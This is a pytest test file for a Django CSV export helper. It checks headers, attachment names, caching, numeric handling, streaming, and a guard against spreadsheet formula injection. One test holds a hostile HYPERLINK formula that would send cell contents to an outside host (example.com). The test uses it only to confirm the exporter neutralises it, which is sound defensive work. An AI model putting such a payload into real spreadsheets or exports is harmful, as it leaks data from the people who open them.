import csv
import datetime
import io
from decimal import Decimal
from unittest import mock

import pytest
from django.core.signals import request_finished
from django.db import close_old_connections
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from core.csv_export import FORMULA_TRIGGERS, csv_response, spreadsheet_safe


def cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.getvalue().decode())))


def test_it_writes_the_header_then_the_rows_as_utf8_csv():
    response = csv_response("cases", ["reference", "name"], [["C1", "Zoë, Smith"], ["C2", ""]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.getvalue() == 'reference,name\r\nC1,"Zoë, Smith"\r\nC2,\r\n'.encode()


def test_it_names_the_attachment_with_the_local_time_and_forbids_storing_it():
    moment = timezone.make_aware(datetime.datetime(2026, 3, 4, 5, 6))
    with mock.patch("core.csv_export.timezone.localtime", return_value=moment):
        response = csv_response("audits", ["id"], [])
    assert response["Content-Disposition"] == 'attachment; filename="audits-20260304-0506.csv"'
    assert response["Cache-Control"] == "no-store"


def test_a_plain_file_name_still_forbids_storing_it():
    response = csv_response("due-items", ["id"], iter([[1]]), stamped=False)
    assert response["Content-Disposition"] == 'attachment; filename="due-items.csv"'
    assert response["Cache-Control"] == "no-store"
    assert response.getvalue() == b"id\r\n1\r\n"


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_a_text_cell_that_would_start_a_formula_is_written_as_text(trigger):
    hostile = f'{trigger}HYPERLINK("http://example.com/?x="&A1,"Open")'
    response = csv_response("cases", ["team"], [[hostile]])
    assert cells(response)[1] == ["'" + hostile]


def test_the_header_is_guarded_too():
    assert cells(csv_response("x", ["=1+1", "name"], []))[0] == ["'=1+1", "name"]


def test_genuine_numbers_stay_numbers_but_the_same_characters_as_text_are_quoted():
    response = csv_response("x", ["a", "b", "c", "d", "e"], [[-3, -2.5, Decimal("-1.25"), "-3", "+44 20 7946 0000"]])
    assert cells(response)[1] == ["-3", "-2.5", "-1.25", "'-3", "'+44 20 7946 0000"]


def test_text_with_a_trigger_later_in_it_is_left_as_it_is():
    assert cells(csv_response("x", ["a"], [["Smith-Jones = ok @ home"]]))[1] == ["Smith-Jones = ok @ home"]


def test_booleans_and_none_are_text_not_numbers():
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe(True) == "True"


@given(st.text())
def test_no_text_cell_read_back_starts_a_formula_and_only_a_formula_gains_a_quote(text):
    (cell,) = cells(csv_response("x", ["a"], [[text]]))[1] or [""]
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell == ("'" + text if text.startswith(FORMULA_TRIGGERS) else text)


def test_the_response_streams_and_a_dropped_download_closes_the_rows():
    closed = []

    def rows():
        try:
            for number in range(100_000):
                yield [number, "x" * 20]
        finally:
            closed.append(True)

    response = csv_response("x", ["n", "text"], rows())
    assert response.streaming
    first = next(iter(response.streaming_content))
    assert first.startswith(b"n,text\r\n0,") and len(first) < 100_000 * 25  # one block, not the whole file
    # As the server would on a dropped download; without ending the request, whose signal would close
    # the test's database connection.
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    assert closed == [True]
